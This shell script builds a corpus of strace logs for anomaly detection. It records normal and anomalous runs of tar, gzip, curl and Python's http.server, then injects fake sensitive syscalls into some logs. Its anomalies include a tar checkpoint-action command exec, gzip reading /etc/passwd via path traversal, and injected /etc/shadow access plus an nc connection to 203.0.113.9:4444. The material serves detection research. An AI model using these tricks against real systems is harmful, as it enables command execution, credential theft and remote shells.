#!/bin/sh
# record.sh: records the strace logs of this folder: five normal runs each of
# an archiver that forks a compressor (tar czf), a filter (gzip -c), a client
# that writes a file (curl -s -o) and a server (python3 -m http.server, traced
# by attaching), anomalous runs of each, injected logs (a normal log with
# sensitive calls inserted after an odd one) and two variations of strace's
# output (-s 16, -tt).  Run it from anywhere; it rewrites every log of this
# folder, runs.tsv, existed.txt, injected.txt, then truth.txt (truth.sh).
#
#   corpora/runs/record.sh
#
# Conventions of corpora/models/record.sh: a private directory under /tmp
# (mktemp -d, removed on exit; /tmp, not $TMPDIR, because the truth's first
# property is "writes outside /tmp"), fixed inputs (seq, printf, a linear
# congruential generator in awk), a fixed small environment, relative
# arguments, every log checked before it is moved here.  See README.md.
set -eu

here=$(cd "$(dirname "$0")" && pwd)
for p in strace tar gzip python3 curl pgrep awk seq env find sort; do
	command -v "$p" > /dev/null 2>&1 || { echo "record.sh: $p is missing" >&2; exit 2; }
done
STRACE=$(command -v strace)
# The interpreter itself, not a wrapper (a pyenv shim is a shell script).
PY=$(python3 -c 'import sys; print(sys.executable)')

T=$(mktemp -d /tmp/runs.XXXXXX)
# The CGI run executes its script as "nobody": the tree must be traversable.
chmod 755 "$T"
V=$(mktemp -d /var/tmp/runs-anom.XXXXXX)   # tar's archive outside the learned directory
R=                                          # curl's config file under /root
spid= pypid=
cleanup() {
	if [ -n "$pypid" ]; then kill "$pypid" 2> /dev/null || true; fi
	if [ -n "$spid" ]; then
		kill "$spid" 2> /dev/null || true
		wait "$spid" 2> /dev/null || true
	fi
	rm -rf "$T" "$V"
	if [ -n "$R" ]; then rm -f "$R"; fi
}
trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM

W=$T/work      # the traced programs' working directory
L=$T/logs      # the logs, moved beside this script once all are checked
mkdir "$W" "$L" "$T/home" "$W/out"
cd "$W"
: > "$T/runs.tsv"
: > "$T/existed.txt"

ENVV="PATH=/usr/local/bin:/usr/bin:/bin HOME=$T/home LC_ALL=C PYTHONDONTWRITEBYTECODE=1"
# run CMD...: the command with the fixed environment.
run() {
	# shellcheck disable=SC2086
	env -i $ENVV "$@"
}

# gen FILE N SEED: N numbers (16 a line, 4 hex digits each) from the linear
# congruential generator x = (x * 25173 + 13849) mod 65536 started at SEED.
gen() {
	awk -v n="$2" -v x="$3" 'BEGIN {
		for (i = 0; i < n; i++) {
			x = (x * 25173 + 13849) % 65536
			printf "%04x%s", x, (i % 16 == 15 ? "\n" : " ")
		}
		if (n % 16) printf "\n"
	}' > "$1"
}

# text FILE N WORD: N lines "WORD line I".
text() {
	seq -f "$3 line %g" 1 "$2" > "$1"
}

# snap: the files and directories under $T before a run (logs aside).
snap() {
	{ find "$T" -path "$L" -prune -o -print; find "$V" -print; } | sort > "$T/snap"
}

# note LOG KIND CMD: one line of runs.tsv (log, kind, working directory,
# command), and the files that existed before the run (snap) whose base name
# the log mentions, into existed.txt.
note() {
	printf '%s\t%s\t%s\t%s\n' "$1" "$2" "$W" "$3" >> "$T/runs.tsv"
	while IFS= read -r f; do
		b=${f##*/}
		[ -n "$b" ] || continue
		if grep -qF "$b" "$L/$1"; then
			printf '%s\t%s\n' "$1" "$f" >> "$T/existed.txt"
		fi
	done < "$T/snap"
}

# trace LOG KIND CMD...: CMD under strace -f -y into LOG (stdin /dev/null,
# stderr into $T), then note.
trace() {
	log=$1 kind=$2; shift 2
	snap
	run "$STRACE" -f -y -o "$L/$log" "$@" < /dev/null >> "$T/stdout" 2>> "$T/stderr"
	note "$log" "$kind" "$*"
}

# --- inputs ---------------------------------------------------------------

# tar: a different directory per run.
mkdir amber
text amber/notes.txt 60 amber
mkdir -p basalt/sub
text basalt/readme.txt 10 basalt
gen basalt/sub/table.dat 800 7
mkdir coral
for i in 1 2 3 4 5; do text "coral/part-$i.txt" $((i * 9)) "coral$i"; done
mkdir -p dune/src dune/doc
text dune/src/main.c 120 main
text dune/doc/guide.md 40 guide
printf 'dune\n' > dune/VERSION
mkdir ember
gen ember/big.dat 6000 3
: > ember/empty
ln -s big.dat ember/link-to-big
# the anomalies'
mkdir fjord
text fjord/log.txt 30 fjord
mkdir glade
text glade/a.txt 20 glade
text glade/b.txt 20 glade

# gzip: a different file per run.
text letters.txt 40 letter
gen numbers.dat 3000 17
: > empty.txt
gen wide.dat 12000 23
text report.log 800 report
# the anomalies' and the variations'
text keep.txt 50 keep
printf 'an older archive\n' | gzip -c > keep.txt.gz
text sixteen.txt 30 sixteen
text stamps.txt 30 stamps

# http: a different site per run; warm.txt is fetched before the trace
# starts (the server imports what serving needs on its first request).
for n in 1 2 3 4 5 6 7 8; do mkdir "site$n"; printf 'warm\n' > "site$n/warm.txt"; done
text site1/hello.txt 5 hello
gen site2/data.bin 2000 31
printf '<html><body><p>page</p></body></html>\n' > site3/index.html
text site4/notes.txt 300 notes
gen site5/blob.dat 900 37
# site6: the large file (2 MiB and a bit: 131072 * 16 bytes + 1 line).
awk 'BEGIN { for (i = 0; i < 131073; i++) printf "%015d\n", i }' > site6/large.txt
text site6/small.txt 4 small
mkdir site7/cgi-bin
printf '#!/bin/sh\nprintf "Content-Type: text/plain\\n\\nhello from a shell\\n"\n' > site7/cgi-bin/hello.sh
chmod 755 site7/cgi-bin/hello.sh
text site8/start.txt 3 start
# curl's -o target that exists before its run (overwritten).
text out/existing.txt 3 existing

# --- tar ------------------------------------------------------------------

i=0
for d in amber basalt coral dune ember; do
	i=$((i + 1))
	trace "tar-$i.log" normal tar czf "out/$d.tar.gz" "$d"
done
trace tar-anom-outside.log anomaly tar czf "$V/fjord.tar.gz" fjord
trace tar-anom-shell.log anomaly tar czf out/glade.tar.gz --checkpoint=1 \
	--checkpoint-action=exec='sh -c id' glade

# --- gzip -----------------------------------------------------------------

# gzipc LOG KIND FILE OUT [strace options]: gzip -c FILE > OUT.
gzipc() {
	log=$1 kind=$2 f=$3 o=$4; shift 4
	snap
	run "$STRACE" -f -y "$@" -o "$L/$log" gzip -c "$f" < /dev/null > "$o" 2>> "$T/stderr"
	note "$log" "$kind" "gzip -c $f > $o"
}
i=0
for f in letters.txt numbers.dat empty.txt wide.dat report.log; do
	i=$((i + 1))
	gzipc "gzip-$i.log" normal "$f" "out/$f.gz"
done
# gzip -f onto an existing keep.txt.gz: open O_EXCL (EEXIST), unlink, open
# O_EXCL again; -k keeps keep.txt.
trace gzip-anom-overwrite.log anomaly gzip -f -k keep.txt
gzipc gzip-anom-passwd.log anomaly ../../../etc/passwd out/passwd.gz
gzipc gzip-var-s16.log variation sixteen.txt out/sixteen.txt.gz -s 16
gzipc gzip-var-tt.log variation stamps.txt out/stamps.txt.gz -tt

# --- http.server and curl -------------------------------------------------

# listening PORT: whether something listens on PORT over TCP.
listening() {
	awk -v p="$(printf ':%04X' "$1")" '
		NR > 1 && $4 == "0A" && substr($2, length($2) - 4) == p { f = 1 }
		END { exit !f }' /proc/net/tcp /proc/net/tcp6 2> /dev/null
}

# serve N [--cgi]: starts python3 -m http.server on 127.0.0.1 for siteN (or
# site7 with --cgi) in $W, untraced, with SIGINT at its default (a
# background job of a non-interactive shell has it ignored); sets pypid and
# port; waits for LISTEN; fetches warm.txt once (untraced).
serve() {
	n=$1; shift
	port=$((18100 + n))
	tries=0
	while :; do
		while listening "$port"; do port=$((port + 1)); done
		# shellcheck disable=SC2086
		env -i --default-signal=INT $ENVV "$PY" -m http.server "$port" \
			--bind 127.0.0.1 --directory "site$n" "$@" \
			< /dev/null > "$T/server-$n.out" 2>&1 &
		pypid=$!
		k=0
		while [ $k -lt 100 ] && ! listening "$port" && kill -0 "$pypid" 2> /dev/null; do
			sleep 0.1
			k=$((k + 1))
		done
		if listening "$port" && kill -0 "$pypid" 2> /dev/null; then break; fi
		kill "$pypid" 2> /dev/null || true
		wait "$pypid" 2> /dev/null || true
		pypid=
		tries=$((tries + 1))
		if [ $tries -ge 5 ]; then
			echo "record.sh: http.server did not listen" >&2
			cat "$T/server-$n.out" >&2
			exit 1
		fi
		port=$((port + 1))
	done
	run curl -s -o /dev/null "http://127.0.0.1:$port/warm.txt"
}

# attach LOG: strace -f -y -p into LOG, attached to the running server;
# waits until the kernel shows the tracer.
attach() {
	snap
	"$STRACE" -f -y -o "$L/$1" -p "$pypid" 2>> "$T/stderr" &
	spid=$!
	k=0
	while [ $k -lt 100 ]; do
		tp=$(awk '$1 == "TracerPid:" { print $2 }' "/proc/$pypid/status")
		[ "$tp" = 0 ] || break
		sleep 0.1
		k=$((k + 1))
	done
	[ "$tp" != 0 ] || { echo "record.sh: strace did not attach" >&2; exit 1; }
}

# stop LOG KIND WHAT: SIGINT to the server (python exits 0), waits for it
# and for strace, then notes the log.
stop() {
	kill -INT "$pypid"
	wait "$pypid" || { echo "record.sh: server exited with $?" >&2; exit 1; }
	pypid=
	wait "$spid"
	spid=
	note "$1" "$2" "$3"
}

set -- hello.txt data.bin index.html notes.txt blob.dat
names="greeting.txt payload.bin front.html memo.txt chunk.dat"
i=0
for f in "$@"; do
	i=$((i + 1))
	o=$(echo "$names" | cut -d ' ' -f "$i")
	serve "$i"
	attach "server-$i.log"
	trace "curl-$i.log" normal curl -s -o "out/$o" "http://127.0.0.1:$port/$f"
	# a second request: the held-out run 5 of the server serves two files
	if [ "$i" = 5 ]; then run curl -s -o /dev/null "http://127.0.0.1:$port/blob.dat"; fi
	stop "server-$i.log" normal "python3 -m http.server $port --bind 127.0.0.1 --directory site$i (attached)"
done

# More than 1 MiB: the server sends, curl writes, 2 MiB.
serve 6
attach server-anom-large.log
trace curl-anom-large.log anomaly curl -s -o out/large.txt "http://127.0.0.1:$port/large.txt"
# curl -o onto a file that existed before the run: O_TRUNC of an old file.
trace curl-anom-overwrite.log anomaly curl -s -o out/existing.txt "http://127.0.0.1:$port/small.txt"
# HOME=/root: curl's failed open of /root/.curlrc (no such file here).
snap
env -i PATH=/usr/local/bin:/usr/bin:/bin HOME=/root LC_ALL=C \
	"$STRACE" -f -y -o "$L/curl-anom-roothome.log" \
	curl -s -o out/roothome.txt "http://127.0.0.1:$port/small.txt" < /dev/null 2>> "$T/stderr"
note curl-anom-roothome.log anomaly "HOME=/root curl -s -o out/roothome.txt URL/small.txt"
# A config file under /root, read (a temporary file, removed on exit).
R=$(mktemp /root/.runs-curlrc.XXXXXX)
printf 'silent\n' > "$R"
trace curl-anom-rootconf.log anomaly curl -K "$R" -o out/rootconf.txt "http://127.0.0.1:$port/small.txt"
rm -f "$R"
R=
stop server-anom-large.log anomaly "python3 -m http.server $port --bind 127.0.0.1 --directory site6 (attached), one request for large.txt"

# The server runs a CGI script, a shell script: a child that execs a shell.
serve 7 --cgi
attach server-anom-cgi.log
run curl -s -o out/cgi.txt "http://127.0.0.1:$port/cgi-bin/hello.sh"
stop server-anom-cgi.log anomaly "python3 -m http.server $port --bind 127.0.0.1 --directory site7 --cgi (attached), GET /cgi-bin/hello.sh"
grep -q 'hello from a shell' out/cgi.txt || { echo "record.sh: the CGI script did not run" >&2; exit 1; }

# The server traced from its start (not attached): its start-up, bind and
# listen included.
port=18108
while listening "$port"; do port=$((port + 1)); done
snap
# shellcheck disable=SC2086
env -i --default-signal=INT $ENVV "$STRACE" -f -y -o "$L/server-anom-start.log" \
	"$PY" -m http.server "$port" --bind 127.0.0.1 --directory site8 \
	< /dev/null > "$T/server-8.out" 2>&1 &
spid=$!
k=0
while [ $k -lt 100 ] && ! listening "$port"; do sleep 0.1; k=$((k + 1)); done
listening "$port" || { echo "record.sh: the traced server did not listen" >&2; exit 1; }
run curl -s -o out/start.txt "http://127.0.0.1:$port/start.txt"
pypid=$(pgrep -P "$spid")
kill -INT "$pypid"
pypid=
wait "$spid"
spid=
note server-anom-start.log anomaly "python3 -m http.server $port --bind 127.0.0.1 --directory site8 (traced from its start)"

# --- checks ---------------------------------------------------------------

# Every log non-empty, its last line the exit of the main process (the pid of
# its first line) with 0.
bad=0
for f in "$L"/*.log; do
	if [ ! -s "$f" ]; then
		echo "record.sh: $(basename "$f") is empty" >&2; bad=1; continue
	fi
	main=$(awk 'NR == 1 { print $1; exit }' "$f")
	last=$(tail -n 1 "$f" | sed 's/^\([0-9]*\) *[0-9:.]* *+++/\1 +++/')
	if [ "$last" != "$main +++ exited with 0 +++" ]; then
		echo "record.sh: $(basename "$f") ends with: $(tail -n 1 "$f")" >&2; bad=1
	fi
done
[ $bad -eq 0 ] || exit 1

# --- injection ------------------------------------------------------------

# inject SRC DST: DST is SRC with, just before the main process's exit_group
# (the pid of SRC's first line), an odd call and four sensitive calls in that
# pid and strace's format: an openat of /etc/shadow (never opened by a normal
# run), unlink("/etc/shadow") that fails, a TCP socket on a descriptor the log
# never uses (the first from 7 up), a connect of it to 203.0.113.9:4444
# (TEST-NET-3, not loopback) and a successful execve of nc (then only
# exit_group and the exit follow).  The line numbers of the five injected
# lines go to injected.txt.
inject() {
	awk -v dst="$2" -v out="$T/injected.txt" '
		NR == FNR {
			if (FNR == 1) main = $1
			if ($1 == main && $2 ~ /^exit_group\(/ && !at) {
				at = FNR
				p = substr($0, 1, index($0, "exit_group(") - 1)
			}
			# descriptors the log names: N< (-y) or "= N"
			s = $0
			while (match(s, /[(, ]-?[0-9]+</)) {
				used[substr(s, RSTART + 1, RLENGTH - 2) + 0] = 1
				s = substr(s, RSTART + RLENGTH)
			}
			if (match($0, /= [0-9]+$/)) used[substr($0, RSTART + 2) + 0] = 1
			next
		}
		FNR == 1 {
			if (!at) { print "record.sh: no exit_group of the main process in " FILENAME > "/dev/stderr"; exit 1 }
			for (fd = 7; fd in used; fd++) ;
			ins[1] = p "openat(AT_FDCWD</>, \"/etc/shadow\", O_RDONLY|O_CLOEXEC) = -1 EACCES (Permission denied)"
			ins[2] = p "unlink(\"/etc/shadow\") = -1 EACCES (Permission denied)"
			ins[3] = p "socket(AF_INET, SOCK_STREAM, IPPROTO_TCP) = " fd "<socket:[4444]>"
			ins[4] = p "connect(" fd "<socket:[4444]>, {sa_family=AF_INET, sin_port=htons(4444), sin_addr=inet_addr(\"203.0.113.9\")}, 16) = 0"
			ins[5] = p "execve(\"/usr/bin/nc\", [\"nc\", \"203.0.113.9\", \"4444\"], 0x7ffc2b3c9d10 /* 4 vars */) = 0"
		}
		FNR == at {
			for (k = 1; k <= 5; k++) {
				print ins[k] > dst
				n = FNR + k - 1
				lines = lines (k > 1 ? "," : "") n
			}
			printf "%s\t%s\n", dst, lines >> out
		}
		{ print > dst }' "$1" "$1"
}
: > "$T/injected.txt"
for p in tar gzip curl server; do
	inject "$L/$p-5.log" "$L/$p-inject-1.log"
	grep "^$p-5.log	" "$T/existed.txt" | sed "s/^$p-5.log/$p-inject-1.log/" >> "$T/existed.txt"
	awk -F '\t' -v p="$p" '$1 == p "-5.log" { OFS = "\t"; $1 = p "-inject-1.log"; $2 = "injected"; print }' \
		"$T/runs.tsv" >> "$T/runs.tsv.new"
done
cat "$T/runs.tsv.new" >> "$T/runs.tsv"
sed "s|^$L/||" "$T/injected.txt" > "$T/injected.tmp"

# --- results --------------------------------------------------------------

rm -f "$here"/*.log
mv "$L"/*.log "$here"/
{
	echo "# runs.tsv: log, kind, working directory, command (written by record.sh)"
	sort "$T/runs.tsv"
} > "$here/runs.tsv"
{
	echo "# existed.txt: the recording's directories (root, PATH), then per log a file or directory under them that existed before the run and whose base name the log mentions (record.sh)"
	printf 'root\t%s\nroot\t%s\n' "$T" "$V"
	sort "$T/existed.txt"
} > "$here/existed.txt"
{
	echo "# injected.txt: injected log, the line numbers of its injected lines (record.sh)"
	sort "$T/injected.tmp"
} > "$here/injected.txt"
sh "$here/truth.sh" > "$here/truth.txt"
set -- "$here"/*.log
echo "recorded: $# logs, $(cat "$@" | wc -c | tr -d ' ') bytes"
